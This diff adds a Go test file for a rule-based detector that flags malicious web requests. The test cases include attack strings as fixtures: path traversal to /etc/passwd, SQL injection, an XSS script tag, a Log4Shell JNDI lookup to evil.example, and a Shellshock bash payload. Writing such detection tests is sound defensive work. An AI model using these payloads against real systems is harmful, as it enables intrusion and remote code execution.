@@ -0,0 +1,114 @@
+package security
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func ruleNames(rules []*Rule) []string {
+	names := make([]string, 0, len(rules))
+	for _, rule := range rules {
+		names = append(names, rule.Name)
+	}
+
+	return names
+}
+
+func TestMatch(t *testing.T) {
+	s := Default()
+
+	cases := []struct {
+		uri       string
+		userAgent string
+		referrer  string
+		expected  []string
+	}{
+		{"/wp-login.php", "curl/7.68.0", "-", []string{"wordpress-probe"}},
+		{"/.env", "Mozilla/5.0", "-", []string{"env-file"}},
+		{"/.git/config", "Mozilla/5.0", "-", []string{"vcs-directory"}},
+		{"/download?file=../../etc/passwd", "Mozilla/5.0", "-", []string{"path-traversal", "system-file"}},
+		{"/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "Mozilla/5.0", "-", []string{"path-traversal", "system-file"}},
+		{"/products?id=1%20UNION%20SELECT%20password%20FROM%20users", "Mozilla/5.0", "-", []string{"sql-union"}},
+		{"/login?user=admin'+OR+'1'='1", "Mozilla/5.0", "-", []string{"sql-tautology"}},
+		{"/search?q=<script>alert(1)</script>", "Mozilla/5.0", "-", []string{"xss-script"}},
+		{"/", "${jndi:ldap://evil.example/a}", "-", []string{"log4shell"}},
+		{"/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "-", []string{"scanner-user-agent"}},
+		{"/", "() { :; }; /bin/bash -c 'id'", "-", []string{"shellshock"}},
+		{"/blog/post/123", "Mozilla/5.0", "https://example.com/", nil},
+		{"/products?id=42&sort=price", "Mozilla/5.0", "-", nil},
+	}
+
+	for _, c := range cases {
+		t.Run("should match "+c.uri, func(t *testing.T) {
+			matched := s.Match(c.uri, c.userAgent, c.referrer)
+			assert.ElementsMatch(t, c.expected, ruleNames(matched))
+		})
+	}
+
+	t.Run("should report a rule once when several fields match", func(t *testing.T) {
+		matched := s.Match("/?x=${jndi:ldap://a}", "${jndi:ldap://a}", "-")
+		assert.Equal(t, []string{"log4shell"}, ruleNames(matched))
+	})
+}
+
+func TestCache(t *testing.T) {
+	t.Run("should match the same as the scanner", func(t *testing.T) {
+		s := Default()
+		cache := s.NewCache()
+
+		for range 2 {
+			matched := cache.Match("/wp-admin/../../etc/passwd", "nikto", "-")
+			assert.ElementsMatch(t, ruleNames(s.Match("/wp-admin/../../etc/passwd", "nikto", "-")), ruleNames(matched))
+		}
+	})
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+
+	t.Run("should load yaml rules on top of the defaults", func(t *testing.T) {
+		fpath := filepath.Join(dir, "rules.yaml")
+		err := os.WriteFile(fpath, []byte(`rules:
+  - name: internal-api
+    category: probe
+    fields: [uri]
+    pattern: "^/internal/"
+`), 0644)
+		require.NoError(t, err)
+
+		s, err := Load(fpath)
+		require.NoError(t, err)
+
+		assert.Equal(t, []string{"internal-api"}, ruleNames(s.Match("/internal/metrics", "Mozilla/5.0", "-")))
+		assert.Equal(t, []string{"env-file"}, ruleNames(s.Match("/.env", "Mozilla/5.0", "-")))
+	})
+
+	t.Run("should load json rules", func(t *testing.T) {
+		fpath := filepath.Join(dir, "rules.json")
+		err := os.WriteFile(fpath, []byte(`{"rules": [{"name": "bad-referrer", "category": "spam", "fields": ["referrer"], "pattern": "casino"}]}`), 0644)
+		require.NoError(t, err)
+
+		s, err := Load(fpath)
+		require.NoError(t, err)
+
+		assert.Equal(t, []string{"bad-referrer"}, ruleNames(s.Match("/", "Mozilla/5.0", "https://casino.example/")))
+	})
+
+	t.Run("should reject invalid rules", func(t *testing.T) {
+		invalid := []Rule{
+			{Name: "no-fields", Category: "probe", Pattern: "x"},
+			{Name: "bad-field", Category: "probe", Pattern: "x", Fields: []Field{"host"}},
+			{Name: "bad-pattern", Category: "probe", Pattern: "(", Fields: []Field{FIELD_URI}},
+			{Category: "probe", Pattern: "x", Fields: []Field{FIELD_URI}},
+		}
+
+		for _, rule := range invalid {
+			_, err := New(Rules{Rules: []Rule{rule}})
+			assert.Error(t, err, rule.Name)
+		}
+	})
+}